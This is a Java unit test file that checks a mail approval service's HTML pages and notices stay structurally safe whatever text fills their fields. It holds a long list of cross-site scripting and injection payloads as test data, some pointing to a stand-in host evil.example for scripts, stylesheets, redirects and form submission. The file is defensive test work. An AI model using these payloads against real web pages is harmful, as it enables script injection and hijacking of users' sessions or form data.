package dev.multimail.functions.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever stands in a field, the pages and notices keep the structure that they have for harmless text. */
class HostileTextTest {
    private static final Set<String> ELEMENTS = Set.of(
            "html head meta title style body header svg rect path span main div h1 h2 h3 p bdi b wbr br strong small code"
                    .split(" "));
    private static final Set<String> MORE_ELEMENTS =
            Set.of("section article aside ul li dl dt dd time form input label textarea button iframe details summary i"
                    .concat(" blockquote table tbody tr td a em")
                    .split(" "));

    static List<String> payloads() {
        return Stream.of(elements(), attributes()).flatMap(String::lines).toList();
    }

    private static String elements() {
        return """
                <script>alert(1)</script>
                <ScRiPt src=//evil.example/x.js></ScRiPt>
                "><script>alert(1)</script>
                '><script>alert(1)</script>
                </title><script>alert(1)</script>
                </style><script>alert(1)</script>
                </textarea><script>alert(1)</script>
                </iframe><script>alert(1)</script>
                </main></body></html><script>alert(1)</script>
                <!--<script>alert(1)</script>
                --><script>alert(1)</script><!--
                <![CDATA[<script>alert(1)</script>]]>
                <img src=x onerror=alert(1)>
                <img src=x onerror="alert(1)" x='
                "><img src=x onerror=alert(1)>
                '><img src=x onerror=alert(1)>
                <img/src=`x`/onerror=alert(1)>
                <svg onload=alert(1)>
                <svg><script>alert(1)</script></svg>
                <svg><animate onbegin=alert(1) attributeName=x dur=1s>
                <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
                <svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>
                <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
                <math href="javascript:alert(1)">x</math>
                <body onload=alert(1)>
                <iframe src="javascript:alert(1)"></iframe>
                <iframe srcdoc="<script>alert(1)</script>"></iframe>
                <object data="data:text/html,<script>alert(1)</script>"></object>
                <embed src="data:text/html,<script>alert(1)</script>">
                <link rel=stylesheet href=//evil.example/x.css>
                <style>@import '//evil.example/x.css';</style>
                <style>body{display:none}</style>
                <meta http-equiv=refresh content="0;url=//evil.example/">
                <base href=//evil.example/>
                <form action=//evil.example/><input name=action value=approve>
                <button form=decide formaction=//evil.example/>Approve</button>
                <input autofocus onfocus=alert(1)>
                <select autofocus onfocus=alert(1)>
                <textarea autofocus onfocus=alert(1)>
                <keygen autofocus onfocus=alert(1)>
                <video><source onerror=alert(1)>
                <audio src=x onerror=alert(1)>
                <details open ontoggle=alert(1)>
                <marquee onstart=alert(1)>x</marquee>
                <a href="javascript:alert(1)">x</a>
                <a href=javascript&colon;alert(1)>x</a>
                <a href="data:text/html,<script>alert(1)</script>">x</a>
                <a href="&#106;avascript:alert(1)">x</a>
                <template><script>alert(1)</script></template>
                <noscript><p title="</noscript><img src=x onerror=alert(1)>">
                <xmp><script>alert(1)</script></xmp>
                <plaintext>
                <table><td background="//evil.example/x.gif">
                <div style="background:url(//evil.example/x)">x</div>
                <div style=position:fixed;inset:0;background:white>All is well</div>
                <p id=reason name=nonce>clobber</p>
                """;
    }

    private static String attributes() {
        return """
                " onmouseover="alert(1)
                ' onmouseover='alert(1)
                " autofocus onfocus=alert(1) x="
                " srcdoc="<script>alert(1)</script>
                " style="position:fixed;inset:0
                `onmouseover=alert(1)`
                javascript:alert(1)
                &lt;script&gt;alert(1)&lt;/script&gt;
                &#60;script&#62;alert(1)&#60;/script&#62;
                &quot;&gt;&lt;img src=x onerror=alert(1)&gt;
                &amp;lt;img src=x&amp;gt;
                \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
                %3Cscript%3Ealert(1)%3C/script%3E
                +ADw-script+AD4-alert(1)+ADw-/script+AD4-
                ＜script＞alert(1)＜/script＞
                ¼script¾alert(1)¼/script¾
                <scr<script>ipt>alert(1)</scr</script>ipt>
                <scr\u0000ipt>alert(1)</scr\u0000ipt>
                <\u200Bscript>alert(1)</script>
                \u202E<script>alert(1)</script>\u202C
                \uD83C<script>alert(1)</script>
                {{constructor.constructor('alert(1)')()}}
                ${alert(1)} #{alert(1)} <%= alert(1) %> %s %n %1$s
                $1 \\1 \\$0 $& ]]> ?> */ alert(1) /*
                """;
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void the_page_that_asks_stays_the_page_that_asks(String payload) {
        String html = ApprovalPages.ask(Views.filledWith(payload), "/approve/" + payload, payload);
        Document page = harmless(html);
        Document model = Jsoup.parse(ApprovalPages.ask(Views.filledWith("harmless"), "/approve/x", "harmless"));
        assertThat(skeleton(page)).isEqualTo(skeleton(model));
        assertThat(page.select("form")).hasSize(1);
        assertThat(page.select("form [name]").eachAttr("name")).containsExactly("nonce", "reason", "action", "action");
        assertThat(page.expectFirst("input[name=nonce]").val()).isEqualTo(Invisibles.spelledOut(payload));
        assertThat(page.expectFirst("iframe").attributes().asList().stream().map(Attribute::getKey))
                .containsExactly("sandbox", "title", "srcdoc");
        assertThat(page.expectFirst("iframe").attr("sandbox")).isEmpty();
        assertThat(page.expectFirst("iframe").attr("srcdoc"))
                .startsWith(
                        "<!doctype html><html><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\"")
                .endsWith(Html.withVisibleMarks(payload));
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void the_text_reads_as_it_was_written(String payload) {
        Document page = Jsoup.parse(ApprovalPages.ask(Views.filledWith(payload), "/approve/x", "nonce"));
        page.select("b.mark").remove();
        assertThat(page.expectFirst(".text").wholeText().strip())
                .isEqualTo(Invisibles.removed(payload).strip());
        assertThat(page.expectFirst("h2.subject bdi").wholeText()).isEqualTo(Invisibles.removed(payload));
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void the_other_pages_hold_as_well(String payload) {
        ApprovalView view = Views.filledWith(payload);
        harmless(ApprovalPages.decided(view, payload, payload, Views.ASKED, payload, false));
        harmless(ApprovalPages.decided(view, "rejected", payload, Views.ASKED, payload, true));
        harmless(ApprovalPages.refused(payload, payload, payload));
        harmless(ApprovalPages.needsLink(payload));
        assertThat(Jsoup.parse(ApprovalPages.needsLink(payload)).select("form")).hasSize(1);
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void the_notice_holds_as_well(String payload) {
        NoticeView notice =
                new NoticeView(Views.filledWith(payload), payload, "https://mail.example/a?t=1&u=2", "decide");
        Document page = harmless(Notices.html(notice));
        assertThat(page.select("a").eachAttr("href")).containsExactly("https://mail.example/a?t=1&u=2");
        assertThat(page.select("[src], [background], style, link, form, iframe"))
                .isEmpty();
        assertThat(Notices.subject(notice)).doesNotContainPattern("[\\p{Cntrl}\u202E\u200B]");
    }

    private static Document harmless(String html) {
        assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script");
        Document page = Jsoup.parse(html);
        for (Element element : page.getAllElements()) {
            if (element instanceof Document) {
                continue;
            }
            assertThat(ELEMENTS.contains(element.tagName()) || MORE_ELEMENTS.contains(element.tagName()))
                    .as("element %s", element.tagName())
                    .isTrue();
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).doesNotStartWith("on").matches("[a-z:-]+[A-Za-z0-9-]*");
            }
        }
        return page;
    }

    /** The page's elements in order, without the marks that depend on the text and the warning rows. */
    private static List<String> skeleton(Document page) {
        page.select("b.mark, .beside, .gap").remove();
        return page.getAllElements().stream().map(Element::tagName).toList();
    }
}
